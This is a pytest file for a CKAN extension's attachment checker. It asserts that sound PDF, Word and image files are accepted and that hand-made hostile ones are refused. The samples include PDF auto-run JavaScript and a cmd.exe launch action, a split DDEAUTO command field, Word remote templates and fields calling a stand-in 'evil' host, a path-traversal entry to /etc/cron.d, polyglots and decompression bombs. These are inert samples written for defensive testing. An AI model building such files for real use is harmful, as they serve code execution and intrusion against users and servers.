"""What may be attached, by its content: hostile files made by hand."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ckanext.edudata.requests import sandbox_attachments
from ckanext.edudata.requests.content_attachments import Refused, media_type
from ckanext.edudata.requests.words_attachments import REFUSALS, TYPES
from tests.requests import files

pytestmark = pytest.mark.article(28)
DOCX = next(kind for kind in TYPES if "word" in kind)

SOUND = {
    "application/pdf": files.pdf(),
    DOCX: files.docx(
        {"word/media/image1.png": files.png(), "customXml/item1.xml": b"<a/>"},
        relations=files.relation("hyperlink", "https://example.org/"),
    ),
    "image/png": files.png(),
    "image/jpeg": files.jpeg(),
}


def zipped(**members):
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return target.getvalue()


MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
FIELD = "</w:t></w:r><w:r><w:instrText>{}</w:instrText></w:r><w:r><w:t>"
SPLIT = FIELD.format("DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\cmd")
BAD = {
    "nothing": (b"   \n", "empty"),
    "text": (b"plain words", "kind"),
    "html as picture": (b"<html><script>alert(1)</script></html>", "kind"),
    "svg": (b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>", "kind"),
    "gif": (b"GIF89a" + b"\0" * 40, "kind"),
    "program": (b"MZ" + b"\0" * 80, "kind"),
    "zip": (zipped(a=b"b"), "kind"),
    "xlsx": (zipped(**{"xl/workbook.xml": b"<a/>"}), "kind"),
    "old word": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "kind"),
    "cut png": (files.png()[:-6], "broken"),
    "png with a page behind": (files.png(behind=b"<script>1</script>"), "polyglot"),
    "huge png": (files.png(60_000, 60_000), "bomb"),
    "cut jpeg": (files.jpeg()[:-4], "broken"),
    "jpeg with an archive behind": (files.jpeg(behind=zipped(a=b"b")), "polyglot"),
    "huge jpeg": (files.jpeg(60_000, 60_000), "bomb"),
    "pdf with an archive behind": (files.pdf(behind=zipped(a=b"b")), "polyglot"),
    "no pages": (b"%PDF-1.7\ntrailer << >>\n%%EOF", "broken"),
    "script on opening": (
        files.pdf(catalog=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
        "active",
    ),
    "script, its name in hexadecimal": (
        files.pdf(catalog=b"/OpenAction << /S /J#61vaScript /J#53 (x) >>"),
        "active",
    ),
    "starts a program": (
        files.pdf(b"<< /Type /Action /S /Launch /F (cmd.exe) >>"),
        "active",
    ),
    "sends a form": (files.pdf(b"<< /S /SubmitForm /F (x) >>"), "active"),
    "acts on pages": (files.pdf(b"<< /AA << /O 1 0 R >> >>"), "active"),
    "xfa": (files.pdf(catalog=b"/AcroForm << /XFA 4 0 R >>"), "active"),
    "script in an object stream": (
        files.pdf_packed(b"<< /S /JavaScript /JS (app.alert(1)) >>"),
        "active",
    ),
    "file in an object stream": (
        files.pdf_packed(b"<< /Type /Filespec /EF << /F 3 0 R >> >>"),
        "embedded",
    ),
    "file in it": (files.pdf(b"<< /Type /EmbeddedFile /Length 0 >>"), "embedded"),
    "attachment on a page": (files.pdf(b"<< /Subtype /FileAttachment >>"), "embedded"),
    "macros": (files.docx({"word/vbaProject.bin": b"x"}), "macros"),
    "macros said to be none": (files.docx(types=MACRO_TYPE), "macros"),
    "control": (files.docx({"word/activeX/activeX1.xml": b"<a/>"}), "macros"),
    "file in word": (files.docx({"word/embeddings/a.bin": b"x"}), "embedded"),
    "something else in word": (files.docx({"word/media/run.exe": b"MZ"}), "embedded"),
    "remote template": (
        files.docx(relations=files.relation("attachedTemplate", "http://evil/t.dotm")),
        "external",
    ),
    "picture from elsewhere": (
        files.docx(relations=files.relation("image", "https://evil/1.png")),
        "external",
    ),
    "link to a share": (
        files.docx(relations=files.relation("hyperlink", "file:////evil/share")),
        "external",
    ),
    "command in a field": (files.docx(body=SPLIT), "macros"),
    "text from elsewhere": (
        files.docx(body=FIELD.format("INCLUDETEXT http://evil/")),
        "external",
    ),
    "entities": (
        files.docx({"word/x.xml": b"<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"}),
        "broken",
    ),
    "bomb": (files.docx({"word/media/a.png": b"\0" * (60 << 20)}), "bomb"),
    "leads out": (files.docx({"../../etc/cron.d/x.xml": b"<a/>"}), "broken"),
}


@pytest.mark.parametrize("kind", TYPES)
def test_sound_files_are_taken(kind, tmp_path):
    path = tmp_path / "file"
    path.write_bytes(SOUND[kind])
    assert media_type(path) == kind
    assert sandbox_attachments.media_type(path, 30) == (kind, "")


@pytest.mark.parametrize("name", BAD)
def test_hostile_files_are_refused(name, tmp_path):
    content, code = BAD[name]
    path = tmp_path / "file"
    path.write_bytes(content)
    with pytest.raises(Refused) as refused:
        media_type(path)
    assert str(refused.value) == code
    assert code in REFUSALS


def test_the_child_answers_for_hostile_ones_too(tmp_path):
    path = tmp_path / "file"
    path.write_bytes(BAD["script in an object stream"][0])
    assert sandbox_attachments.media_type(path, 30) == ("", "active")
    assert sandbox_attachments.media_type(path, 0) == ("", "timeout")
    assert sandbox_attachments.media_type(tmp_path / "none", 30) == ("", "crashed")


@given(st.data())
def test_no_bytes_get_past(tmp_path_factory, data):
    """Whatever is changed in a sound file, it is taken as what it is, or refused."""
    kind = data.draw(st.sampled_from(sorted(SOUND)))
    content = bytearray(SOUND[kind])
    for _ in range(data.draw(st.integers(1, 5))):
        place = data.draw(st.integers(0, len(content) - 1))
        content[place] = data.draw(st.integers(0, 255))
    cut = data.draw(st.integers(1, len(content)))
    path: Path = tmp_path_factory.getbasetemp() / "fuzzed"
    path.write_bytes(content[:cut])
    try:
        answer = media_type(path)
    except Refused as refused:
        answer = str(refused)
    assert answer == kind or answer in REFUSALS
